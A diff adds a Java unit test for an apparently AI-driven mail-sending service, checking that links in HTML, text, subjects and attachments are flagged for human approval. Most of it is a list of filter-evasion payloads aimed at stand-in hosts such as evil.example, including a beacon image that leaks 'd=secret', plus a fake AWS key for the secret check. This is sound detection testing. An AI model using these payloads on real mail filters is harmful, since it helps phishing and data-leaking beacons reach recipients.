@@ -1,0 +1,172 @@
+package dev.agentmailbox.service.sending;
+
+import static dev.agentmailbox.fixture.SendingRoom.mail;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.agentmailbox.fixture.Refusals;
+import dev.agentmailbox.fixture.SendingRoom;
+import dev.agentmailbox.sending.SendStatus;
+import dev.agentmailbox.service.sending.release.CheckReport;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** What the flag {@code has_links} sees: everything a recipient's program could fetch or follow. */
+class LinkFlagTest {
+  private final SendingRoom room = new SendingRoom();
+
+  @BeforeEach
+  void links_need_approval() {
+    room.askForApproval("has_links");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "<a href=\"https://evil.example/x\">invoice</a>",
+        "<a href=\"h&#116;tps://evil.example/steal\">invoice</a>",
+        "<a href=\"//evil.example/x\">invoice</a>",
+        "<a href=\"https:\\\\evil\">invoice</a>",
+        "<a href=\"https:/evil\">invoice</a>",
+        "<a href=\"ht\ntps://evil/\">invoice</a>",
+        "<a href=\"&#1;&Tab;ht&NewLine;tps:evil\">invoice</a>",
+        "<a href=\"mailto:thief\">invoice</a>",
+        "<a href=\"tel:+15550100\">invoice</a>",
+        "<a href=\"data:text/html,x\">invoice</a>",
+        "<A HREF=ftp:files>invoice</A>",
+        "<area href=x>",
+        "<img src=\"h&#116;tps://evil/p.gif?d=secret\">",
+        "<img src=\"cid:a\" srcset=\"cid:b 1x, //evil/p 2x\">",
+        "<img lowsrc=//evil/p>",
+        "<video poster=//evil/p></video>",
+        "<table background=\"//evil/p\"><tr><td>x</table>",
+        "<object data=//evil/p></object>",
+        "<form action=\"h&#x74;tps://evil/\"><input></form>",
+        "<button formaction=//evil>x</button>",
+        "<base href=//evil/><a href=\"#x\">x</a>",
+        "<link rel=stylesheet href=//evil/s>x",
+        "<iframe srcdoc=\"<p>x\"></iframe>",
+        "<blockquote cite=//evil>x</blockquote>",
+        "<meta http-equiv=refresh content=\"0;url=//evil\">x",
+        "<meta itemprop=url content=\"ht&#116;ps://evil\">x",
+        "<p style=\"background:url(//evil/p)\">x</p>",
+        "<p style='background:\\75 rl(\"//evil/p\")'>x</p>",
+        "<p style=\"background:image-set('cid:a' 1x, '//evil' 2x)\">x</p>",
+        "<p style=\"a:'/*';background:url(//evil);b:'*/'\">x</p>",
+        "<style>@import '//evil/s';</style>x",
+        "<style>p { background: url( '//evil/p' ) }</style>x",
+        "<svg><image xlink:href=//evil /></svg>",
+        "<svg><rect fill=\"url(//evil#p)\"/></svg>",
+        "<svg><style>p{fill:url(//evil)}</style></svg>",
+        "<svg><a><set attributeName=href to=//evil />x</a></svg>",
+        "<v:roundrect href=//evil>x</v:roundrect>",
+        "<!--[if mso]><a href=\"//evil\">x</a><![endif]--><p>x",
+        "<script type=application/ld+json>{}</script>x",
+        "<p onclick=go()>x</p>",
+        "<p>see <b>evil</b>.com</p>",
+        "<p>evil&#46;com</p>"
+      })
+  void html_a_program_could_fetch_from_or_follow_waits_for_a_human(String html) {
+    assertEquals(
+        List.of("has_links"), withoutContact(room.submit(mail().html("<p>Hello " + html))));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "see https://evil/x",
+        "see HTTPS:\\\\evil",
+        "see evil.example/login",
+        "see evil.com",
+        "evil.co.uk, or so",
+        "(evil.com).",
+        "go to пример.рф now",
+        "go to evil\u3002com now",
+        "go to evil\u00ad.com now",
+        "go to xn--e1afmkfd.xn--p1ai",
+        "mailto:thief",
+        "ftp://files",
+        "www.evil",
+        "call 192.0.2.1/x",
+        "thief@evil.com/login"
+      })
+  void text_and_subject_with_a_link_wait_for_a_human(String words) {
+    assertEquals(List.of("has_links"), withoutContact(room.submit(mail().text(words))));
+    assertEquals(List.of("has_links"), withoutContact(room.submit(mail().subject(words))));
+    assertEquals(List.of("has_links"), withoutContact(room.submit(mail().html(words))));
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "<!DOCTYPE html PUBLIC \"-//W3C//DTD\" \"http://www.w3.org/TR/xhtml1.dtd\">"
+            + "<html xmlns=\"http://www.w3.org/1999/xhtml\"><p>x",
+        "<p style=\"color: red; background: url(cid:part1)\">version 1.0 of file.conf</p>",
+        "<a href=\"#top\">up</a> <a name=top></a> <img src=\"CID:logo@x\">",
+        "<!-- https://example.com/ --><p>x",
+        "Mr. Smith, i.e. bob@example.com, at 3.15 p.m. e.g. 1.2.3.4.",
+        "<a href=\"\">x</a>"
+      })
+  void mail_that_leads_nowhere_leaves(String html) {
+    assertEquals(SendStatus.SENDING, room.submit(mail().html(html)).status());
+  }
+
+  @Test
+  void files_of_text_are_read_as_well() {
+    for (String type : List.of("text/html; charset=utf-8", "image/svg+xml")) {
+      AttachmentInput file =
+          AttachmentInput.of(
+              type, type, "<a href=&#47;/evil>x</a>".getBytes(StandardCharsets.UTF_8));
+      assertEquals(
+          List.of("has_links", "has_attachments"),
+          withoutContact(room.submit(mail().attach(file))));
+    }
+    AttachmentInput note =
+        AttachmentInput.of("a", "text/plain", "go to evil.com".getBytes(StandardCharsets.UTF_8));
+    assertEquals(
+        List.of("has_links", "has_attachments"), withoutContact(room.submit(mail().attach(note))));
+  }
+
+  @Test
+  void more_pieces_of_conditional_html_than_are_read_count_as_a_link() {
+    String piece = "<!--[if mso]><p>x<![endif]-->";
+    assertEquals(SendStatus.SENDING, room.submit(mail().html("<p>x" + piece.repeat(100))).status());
+    assertEquals(
+        List.of("has_links"), withoutContact(room.submit(mail().html("<p>x" + piece.repeat(101)))));
+  }
+
+  @Test
+  void a_link_anywhere_in_a_long_text_is_seen() {
+    for (int before : List.of(65_530, 65_536, 131_070)) {
+      String text = "\ufdfa".repeat(before) + " evil.com";
+      assertEquals(List.of("has_links"), withoutContact(room.submit(mail().text(text))));
+    }
+  }
+
+  @Test
+  void the_dry_run_sees_the_same() {
+    SendCommand command = mail().html("<a href=&#47;/evil>x</a>").build();
+    CheckReport approval = room.sends.check(SendingRoom.CALLER, command).checks().get(11);
+    assertTrue(approval.flags().contains("has_links"));
+  }
+
+  @Test
+  void secrets_in_values_of_attributes_are_seen() {
+    String html = "<p title=\"AKIA&#65;BCDEFGHIJKLMNOP\">x</p>";
+    assertEquals(
+        List.of("secret_detected"), Refusals.blockedFor(() -> room.submit(mail().html(html))));
+    assertEquals(
+        List.of("secret_detected"),
+        Refusals.blockedFor(
+            () -> room.submit(mail().html("<!--[if mso]>" + html + "<![endif]-->x"))));
+  }
+
+  private static List<String> withoutContact(SendResult result) {
+    assertEquals(SendStatus.PENDING_APPROVAL, result.status());
+    return result.flags().stream().filter(flag -> !flag.equals("first_contact")).toList();
+  }
+}
